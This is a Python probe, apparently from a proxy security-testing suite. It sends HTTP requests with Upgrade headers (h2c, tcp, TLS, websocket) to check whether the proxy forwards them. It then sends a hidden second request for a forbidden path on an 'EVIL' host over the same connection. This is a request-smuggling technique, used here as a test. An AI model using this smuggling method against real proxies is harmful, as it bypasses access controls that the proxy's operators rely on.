"""Asks to go on in another protocol, and after it goes on as it likes."""
# outside: escapes

import json

from attempt import attempt
from proxied import EVIL, FORBIDDEN, GOOD, Conversation, reached

WEB_SOCKET = "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"


@attempt
def main():
    found = []
    hidden = f"GET http://{EVIL}/{FORBIDDEN} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()
    for fields in (
        "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n",
        "Upgrade: tcp\r\nConnection: Upgrade\r\n",
        "Upgrade: TLS/1.0\r\nConnection: Upgrade\r\n",
        f"Upgrade: websocket\r\nConnection: Upgrade\r\n{WEB_SOCKET}",
    ):
        talk = Conversation().say(f"GET http://{GOOD}/echo HTTP/1.1\r\nHost: {GOOD}\r\n{fields}\r\n".encode())
        raw = talk.answer()
        body = raw.partition(b"\r\n\r\n")[2]
        if body.startswith(b"{") and b'"headers"' in body:
            passed = {name.lower(): value for name, value in json.loads(body)["headers"]}
            found += [f"passed on: upgrade {passed['upgrade']}"] if passed.get("upgrade", "websocket") != "websocket" else []
            found += ["passed on: http2-settings"] if "http2-settings" in passed else []
        try:
            found += reached(talk.say(hidden).answer(), GOOD)  # the server did not go on in another protocol: this is a request as any
        except OSError:
            pass
        talk.close()
    return found
